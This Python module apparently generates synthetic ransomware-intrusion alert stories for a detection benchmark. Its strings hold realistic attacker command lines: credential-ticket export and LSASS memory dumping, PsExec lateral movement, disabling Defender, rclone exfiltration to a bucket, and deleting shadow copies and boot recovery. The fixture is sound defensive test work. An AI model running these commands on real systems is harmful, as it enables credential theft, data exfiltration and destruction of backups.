"""Stolen credentials, remote commands with PsExec, a command server, and encryption at the end."""

from __future__ import annotations

from benchmarks.synthetic.names import DOCUMENT_WORDS, TOOL_WORDS
from benchmarks.synthetic.story import Story

ENDINGS = ("lokd", "kript", "vaulted", "sealed", "zbox")


def ransomware(story: Story) -> None:
    """Two accounts, three devices, one command server; 8 to 14 alerts."""
    world, rng = story.world, story.rng
    user, admin = world.account(), world.account()
    entry, middle, store = world.workstation(), world.workstation(), world.server()
    server, call_home = world.ip(), world.url("beacon")
    implant = world.file_name(TOOL_WORDS, "exe")
    folder = f"C:\\Users\\{user.name}\\AppData\\Local"
    process = story.process(
        implant, f"{implant} --poll {rng.randrange(20, 90)} --id {world.hexadecimal(8)}", folder
    )
    story.alert("c2_blocked", entry, user, process, server, call_home, always=True)
    story.alert(
        "hands_on",
        entry,
        user,
        server,
        story.process("cmd.exe", f"cmd.exe /c whoami /all & set {world.hexadecimal(4)}"),
    )
    thief = world.file_name(TOOL_WORDS, "exe")
    process = story.process(thief, f"{thief} sekurlsa::tickets /export:{world.hexadecimal(6)}", folder)
    story.alert(
        "cred_tool", entry, user, process, world.file(world.file_name(TOOL_WORDS, "dll"), folder), always=True
    )
    dump = world.file_name(TOOL_WORDS, "dmp")
    process = story.process("rundll32.exe", f"rundll32.exe comsvcs.dll MiniDump 648 {dump} full")
    story.alert("lsass", entry, user, process, world.file(dump, folder))
    story.alert("lateral_xdr", entry, admin, world.ip(), always=True)
    command = f"psexec.exe -s -d \\\\{middle.name} cmd.exe /c {implant} {world.hexadecimal(6)}"
    story.alert("psexec", entry, admin, story.process("psexec.exe", command, folder), always=True)
    dropped = world.file(world.file_name(TOOL_WORDS, "exe"), "C:\\Windows\\Temp")
    process = story.process(
        "psexesvc.exe", f"psexesvc.exe {dropped.name} {world.hexadecimal(4)}", "C:\\Windows"
    )
    story.alert("remote_file", middle, admin, process, dropped)
    service = f"sc.exe create {rng.choice(TOOL_WORDS)}{rng.randrange(10, 99)} start= auto"
    story.alert("service", middle, admin, story.process("sc.exe", service), world.ip(), always=True)
    tamper = f"-Command Set-MpPreference -DisableRealtimeMonitoring 1 # {world.hexadecimal(4)}"
    story.alert("av_tamper", middle, admin, story.shell(tamper))
    archive = world.file_name(DOCUMENT_WORDS, "7z")
    process = story.process("rclone.exe", f"rclone.exe copy {archive} store:{world.hexadecimal(6)}", folder)
    story.alert(
        "staging", store, admin, process, world.file(archive, "D:\\Shares"), world.url("bucket"), world.ip()
    )
    wipe = f"vssadmin.exe delete shadows /all /quiet /tag:{world.hexadecimal(4)}"
    story.alert("backups", store, admin, story.process("vssadmin.exe", wipe), always=True)
    boot = f"bcdedit.exe /set {world.hexadecimal(4)} recoveryenabled no"
    story.alert("recovery", store, story.process("bcdedit.exe", boot), world.ip())
    ending = rng.choice(ENDINGS)
    locker = world.file_name(TOOL_WORDS, "exe")
    process = story.process(locker, f"{locker} --path shares --ext {ending} --note {world.hexadecimal(6)}")
    locked = world.file(f"{world.file_name(DOCUMENT_WORDS, 'xlsx')}.{ending}", "D:\\Shares\\finance")
    story.alert(
        "ransom_fs",
        store,
        process,
        world.file(world.file_name(("readme",), "hta"), "D:\\Shares"),
        always=True,
    )
    story.alert("ransom_ext", store, admin, locked)
